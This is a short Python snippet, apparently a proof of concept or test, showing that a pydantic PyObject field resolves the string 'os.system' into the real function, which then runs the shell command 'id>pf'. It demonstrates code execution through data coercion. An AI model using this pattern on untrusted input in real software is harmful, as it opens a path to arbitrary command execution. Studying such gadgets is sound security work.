from pydantic import BaseModel, PyObject
class M(BaseModel):
    f: PyObject
M(f="os.system").f("id>pf")
